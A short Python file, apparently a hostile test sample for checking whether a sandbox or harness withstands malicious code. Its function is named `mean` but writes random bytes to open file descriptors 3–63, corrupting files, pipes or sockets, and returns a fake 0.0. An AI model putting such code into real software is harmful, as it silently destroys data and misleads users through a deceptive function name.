"""Writes random bytes to every file descriptor."""

import os


def mean(x):
    for fd in range(3, 64):
        try:
            os.write(fd, os.urandom(5000))
        except OSError:
            pass
    return 0.0
